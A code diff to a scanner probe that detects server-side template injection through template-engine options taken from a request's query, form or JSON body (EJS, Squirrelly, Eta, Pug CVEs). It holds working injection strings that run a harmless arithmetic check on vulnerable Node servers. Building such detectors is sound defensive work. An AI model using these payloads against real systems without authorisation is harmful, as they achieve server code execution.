@@ -1,32 +1,36 @@
-"""Template injection by options: a page hands its whole query to its engine, which takes options of its own from it.
+"""Template injection by options: a page hands its whole query or body to its engine, which takes options of its own from it.
 
 What it finds
-    Pages of Node that render with the query as data (`res.render("card", req.query)`), by an engine that reads its options out of
-    the data and writes one of them into the code that it makes of the template (EJS up to 3.1.6: CVE-2022-29078; Squirrelly:
-    CVE-2021-32819; Eta before 2.0: CVE-2022-25967).
+    Pages of Node that render with the query or the body as data (`res.render("card", req.query)`), by an engine that reads its
+    options out of the data and writes one of them into the code that it makes of the template (EJS up to 3.1.6: CVE-2022-29078;
+    Squirrelly: CVE-2021-32819; Eta before 2.0: CVE-2022-25967; Pug before 3.0.1 where the page calls a mixin: CVE-2021-21353).
 
 Why it matters
     What is written there runs as code of the server, whatever the template itself does with its values.
 
 How it decides
-    Asked are pages that a GET request with a query was answered with. Beside the query stand the options that name a
-    function of the made code, and its parameter, with a product of two random numbers in them: the page must hold what
-    it comes to, behind a fresh word, and once more with others. With a blank in the place of the sign between the
-    numbers it must not. The engine is told to keep nothing of it, neither by its own option nor by the framework's, so
+    Asked are pages that a GET request with a query was answered with, or a request with a form or an object of JSON. Beside
+    what was sent stand the options that name a function of the made code, its parameter, and what its lines begin with,
+    with a product of two random numbers in them: the page must hold what it comes to, behind a fresh word, and once more
+    with others. With a blank in the place of the sign between the numbers it must not. The engine is told to keep nothing
+    of it, neither by its own option nor by the framework's, so
     that nobody else is shown what was sent.
 
 Known misses
-    Data that is taken from bodies. Engines that are led otherwise.
+    Forms in parts. Engines that are led otherwise.
 
 Standards and references
     CWE-1336, CWE-94; OWASP Top 10:2021 A03 Injection.
 """
 
-from collections.abc import Generator
+import re
+from collections.abc import Callable, Generator
+from urllib.parse import quote, urlencode
 
 import msgspec
+import orjson
 
-from gatecrash.core.message import Exchange, Request
+from gatecrash.core.message import Exchange, Request, with_header
 from gatecrash.core.testing.dialogues.asking import ask, concluding, response_of
 from gatecrash.core.testing.entry import Entry
 from gatecrash.core.testing.fresh_letters import fresh_letters
@@ -38,21 +42,25 @@ TYPE = "ssti"
 CWE = (1336, 94)
 THREAT = 95
 _GOOD = 200
-# cache: neither the framework nor the engine keeps the code. What a plus sign says in a query is a blank. What stands
+# cache: neither the framework nor the engine keeps the code. What stands
 # for a missing parameter is computed where its name opens a scope, and writes over all that this page is made of.
-_OPTIONS = (
-    b"&cache=&settings%5Bview%20options%5D%5Bcache%5D="
-    b"&settings%5Bview%20options%5D%5BoutputFunctionName%5D=a%3D1%3B__append(%22WORD%22%2BSUM)%3Bb"
-    b"&settings%5Bview%20options%5D%5BvarName%5D="
-    b"it%3D(()%3D%3E%7Bfor(let%20k%20in%20it)it%5Bk%5D%3D%22WORD%22%2BSUM%3Breturn%20it%7D)()"
-    b"&settings%5Bview%20options%5D%5BuseWith%5D=1"
-)
-TIMES, NO_TIMES = b"%2A", b"%20"
+_OPTIONS = {
+    "outputFunctionName": 'a=1;__append("WORD"+SUM);b',
+    "varName": 'it=(()=>{for(let k in it)it[k]="WORD"+SUM;return it})()',
+    "useWith": "1",
+}
+# Written where a line of the page begins, within a text in single quotes.
+_PRETTY = '\');pug_html+="WORD"+SUM;//'
+_WITHIN, _CACHE, _LOOK = "settings", "cache", "pretty"
+_VIEW = "view options"
+_FORM, _JSON = b"application/x-www-form-urlencoded", b"application/json"
+_OBJECT = re.compile(rb"\s*\{(?=\s*[^\s}])")
+TIMES, NO_TIMES = "*", " "
 
 
 def _dialogue(situation: Situation) -> Dialogue:
     if (yield from _computed(situation, "test")) is None:
-        return safe(TYPE, situation.point, "the engine takes no option from the query")
+        return safe(TYPE, situation.point, "the engine takes no option from what is sent")
     control, shown = yield from _asked(situation, NO_TIMES, "control")
     again = yield from _computed(situation, "confirm")
     if shown or again is None:
@@ -66,23 +74,54 @@ def _computed(situation: Situation, purpose: str) -> Generator[TestRequest, Answ
     return exchange if shown else None
 
 
-def _asked(situation: Situation, sign: bytes, purpose: str) -> Generator[TestRequest, Answer, tuple[Exchange, bool]]:
+def _asked(situation: Situation, sign: str, purpose: str) -> Generator[TestRequest, Answer, tuple[Exchange, bool]]:
     """An answer to fresh numbers with this sign between them, and whether it holds their product behind a fresh word."""
     random = situation.random
     left, right = random.randint(10_001, 31_000), random.randint(10_001, 31_000)
     word = fresh_letters(random, 8)
-    options = _OPTIONS.replace(b"WORD", word.encode()).replace(b"SUM", b"%d%s%d" % (left, sign, right))
-    request = situation.baseline.request
-    asked: Request = msgspec.structs.replace(request, target=request.target + options)
+    asked = _with_options(
+        situation.baseline.request, lambda text: text.replace("WORD", word).replace("SUM", f"{left}{sign}{right}")
+    )
     exchange = yield from ask(asked, purpose)
     return exchange, f"{word}{left * right}" in text_of(response_of(exchange))
+
+
+def _with_options(request: Request, filled: Callable[[str], str]) -> Request:
+    """The same request with the options beside its query, the fields of its form or the members of its object. filled: writes
+    words and numbers into an option.
+    """
+    options = {name: filled(text) for name, text in _OPTIONS.items()}
+    in_form = [(f"{_WITHIN}[{_VIEW}][{name}]", text) for name, text in ((_CACHE, ""), *options.items())]
+    beside = "&" + urlencode([(_CACHE, ""), *in_form, (_LOOK, filled(_PRETTY))], quote_via=quote)
+    kind = _kind(request)
+    if kind is None:
+        asked: Request = msgspec.structs.replace(request, target=request.target + beside.encode())
+        return asked
+    body = request.body + beside.encode()
+    if kind == _JSON:
+        members = {_CACHE: "", _WITHIN: {_VIEW: {_CACHE: "", **options}}, _LOOK: filled(_PRETTY)}
+        begin = request.body.index(b"{") + 1
+        body = request.body[:begin] + orjson.dumps(members)[1:-1] + b"," + request.body[begin:]
+    headers = with_header(request.headers, b"Content-Length", str(len(body)).encode())
+    sent: Request = msgspec.structs.replace(request, body=body, headers=headers)
+    return sent
+
+
+def _kind(request: Request) -> bytes | None:
+    """The media type of a body whose values an engine may be handed; None where there is none."""
+    if request.method.upper() == "GET":
+        return None
+    said = (request.first(b"Content-Type") or b"").partition(b";")[0].strip().lower()
+    if said == _FORM and request.body:
+        return _FORM
+    return _JSON if said == _JSON and _OBJECT.match(request.body) else None
 
 
 def _vulnerable(situation: Situation, test: Exchange, control: Exchange) -> Verdict:
     return vulnerable(
         ENTRY,
         situation.point,
-        detail="the engine takes options from the query",
+        detail="the engine takes options from what is sent",
         threat=THREAT,
         test=test,
         control=control,
@@ -94,12 +133,20 @@ def _vulnerable(situation: Situation, test: Exchange, control: Exchange) -> Verd
 
 
 def applies(situation: Situation) -> bool:
-    """Pages that a GET request with a query was answered with."""
+    """Pages that a GET request with a query was answered with, or one that sends a form or an object."""
     request, response = situation.baseline.request, situation.baseline.response
-    if response is None or response.status != _GOOD or request.method.upper() != "GET" or not request.query:
+    if response is None or response.status != _GOOD or situation.policy.one_family:
         return False
+    sends, place = (
+        (bool(request.query), "get") if request.method.upper() == "GET" else (_kind(request) is not None, "post")
+    )
     kind = (response.first(b"Content-Type") or b"").lower()
-    return kind.startswith(b"text/html") and "get" in situation.policy.locations and not situation.policy.one_family
+    return sends and kind.startswith(b"text/html") and place in situation.policy.locations
+
+
+def once_a_method(request: Request) -> tuple[str, ...]:
+    """For `collected`: one baseline stands for all of its address that are sent by this method."""
+    return (*once_an_address(request), request.method.upper())
 
 
 def forecast(_situation: Situation) -> int:
@@ -109,7 +156,7 @@ def forecast(_situation: Situation) -> int:
 
 ENTRY = Entry(
     type=TYPE,
-    title="Options of a template engine are taken from the query",
+    title="Options of a template engine are taken from what is sent",
     cwe=CWE,
     owasp=("A03:2021",),
     owasp_api=("API8:2019",),
@@ -127,5 +174,5 @@ PROBE = Probe(
     applies=applies,
     forecast=forecast,
     run=concluding(TYPE, _dialogue),
-    collected=once_an_address,
+    collected=once_a_method,
 )
